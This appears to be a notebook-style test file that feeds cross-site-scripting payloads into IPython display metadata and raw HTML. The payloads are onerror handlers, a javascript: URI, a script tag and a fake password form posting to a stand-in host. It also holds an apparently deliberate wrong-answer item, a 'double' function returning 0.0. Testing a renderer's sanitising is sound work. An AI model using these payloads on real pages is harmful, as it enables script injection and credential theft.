"""Writes scripts where the size of a picture is told, and asks for frames and files past what a page takes out."""
# verdict: wrong

# %%
from IPython.display import display

DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
EVIL = "1 src=x onerror=REACHED_SCRIPT() x"
SIZES = {"width": EVIL, "height": [EVIL], "alt": f'"{EVIL}', "unconfined": EVIL}
FILES = {"image/png": "javascript:REACHED_SCRIPT()", "image/jpeg": f'"{EVIL}'}
FRAME = "<script>REACHED_SCRIPT()</script><form action=//evil><input name=password>"
for where in ({"image/png": SIZES, "image/jpeg": SIZES}, SIZES, {"filenames": FILES}):
    display({"image/png": DOT}, metadata=where, raw=True)
    display({"image/jpeg": DOT}, metadata=where, raw=True)
display({"text/html": FRAME}, metadata={"isolated": True, "text/html": {"isolated": EVIL}}, raw=True)


# %% answer="double"
def double(x):
    return 0.0


display({"image/png": DOT}, metadata={"image/png": SIZES}, raw=True)
